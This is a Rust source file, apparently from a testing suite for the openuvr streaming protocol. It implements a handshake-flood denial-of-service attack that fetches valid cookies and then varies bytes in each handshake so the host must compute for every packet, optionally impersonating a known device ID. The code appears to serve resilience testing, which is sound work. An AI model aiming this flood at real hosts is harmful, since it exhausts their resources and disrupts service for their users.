//! Unfinished handshakes from several addresses. Each address has first proven with a cookie that it receives the
//! host's answers. Each handshake costs the host a computation.

use std::io;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use openuvr_proto::control::handshake::{ClientHandshake, Trust};
use openuvr_proto::control::identity::{ClientId, DeviceName, Identity};
use openuvr_proto::control::pairing::Pin;
use openuvr_proto::time;

use super::Attack;

/// The claimed identity.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Claim {
    /// A new device that wants to pair.
    Pairing,
    /// The device with this ID, which an on-path attacker can read.
    Device(ClientId),
    /// An unknown device. Each handshake claims a different one.
    Stranger,
}

/// Time for which a cookie is used. The host accepts a cookie for at least 8 s.
const SHOWN_FOR: Duration = Duration::from_secs(4);

/// Timeout of waiting for the host's challenge. It allows for a busy machine, which wakes both the host's thread and
/// this thread late.
const TIMEOUT: Duration = Duration::from_millis(100);

// Offsets in a Begin (`crates/proto/src/control/handshake/layout.rs`).
const ID: usize = 52;
const NOISE: usize = 101;

/// The attack.
pub struct HandshakeFlood {
    senders: Vec<Sender>,
    claim: Claim,
}

struct Sender {
    socket: UdpSocket,
    begin: Option<Vec<u8>>,
    shown: Instant,
}

impl HandshakeFlood {
    /// Opens sockets that send to a host from these addresses of this machine.
    ///
    /// # Errors
    /// Returns the system's error if one of the addresses does not belong to this machine.
    pub fn open(
        host: SocketAddr,
        from: impl IntoIterator<Item = IpAddr>,
        claim: Claim,
    ) -> io::Result<HandshakeFlood> {
        let sender = |from| {
            let socket = UdpSocket::bind(SocketAddr::new(from, 0))?;
            socket.connect(host)?;
            socket.set_read_timeout(Some(TIMEOUT))?;
            Ok(Sender {
                socket,
                begin: None,
                shown: Instant::now(),
            })
        };
        let senders = from.into_iter().map(sender).collect::<io::Result<_>>()?;
        Ok(HandshakeFlood { senders, claim })
    }
}

/// Whether the host answers the first message of a handshake.
///
/// # Errors
/// Returns the system's error.
pub fn answers(host: SocketAddr) -> io::Result<bool> {
    let mut begins = HandshakeFlood::open(host, [host.ip()], Claim::Stranger)?;
    let sender = &mut begins.senders[0];
    Ok((0..GREETINGS).any(|_| sender.show(Claim::Stranger).is_ok()))
}

/// Number of first messages after which a host counts as silent. They take two seconds.
const GREETINGS: u32 = 20;

impl Attack for HandshakeFlood {
    fn strike(&mut self, n: u64) -> io::Result<()> {
        let all = self.senders.len() as u64;
        let index = usize::try_from(n % all.max(1)).unwrap_or(0);
        let sender = &mut self.senders[index];
        if sender.begin.is_none() || sender.shown.elapsed() >= SHOWN_FOR {
            sender.show(self.claim)?;
        }
        let Some(begin) = &mut sender.begin else {
            return Err(io::ErrorKind::NotConnected.into());
        };
        // These bytes differ in each Begin, because the host answers a repeated Begin without computation.
        begin[NOISE..NOISE + 8].copy_from_slice(&n.to_le_bytes());
        if self.claim == Claim::Stranger {
            begin[ID..ID + 8].copy_from_slice(&n.to_le_bytes());
        }
        sender.socket.send(begin).map(drop)
    }
}

impl Sender {
    /// Obtains a cookie from the host.
    fn show(&mut self, claim: Claim) -> io::Result<()> {
        let now = time::Instant(0);
        let trust = match claim {
            Claim::Pairing => Trust::Pin(Pin::generate().map_err(io::Error::other)?),
            Claim::Device(_) | Claim::Stranger => {
                let unknown = Identity::generate().map_err(io::Error::other)?;
                Trust::Known(unknown.public())
            }
        };
        let identity = Identity::generate().map_err(io::Error::other)?;
        let name = DeviceName::default();
        let mut client =
            ClientHandshake::new(now, &identity, name, trust).map_err(io::Error::other)?;
        let hello = client.poll_transmit(now).unwrap_or_default();
        self.socket.send(&hello)?;
        let mut reply = [0; 2048];
        // Skip the answers to previous Begins.
        loop {
            let length = self.socket.recv(&mut reply)?;
            client
                .handle_datagram(now, &reply[..length])
                .map_err(io::Error::other)?;
            let Some(mut begin) = client.poll_transmit(now) else {
                continue;
            };
            if let Claim::Device(id) = claim {
                begin[ID..ID + id.0.len()].copy_from_slice(&id.0);
            }
            self.begin = Some(begin);
            self.shown = Instant::now();
            return Ok(());
        }
    }
}
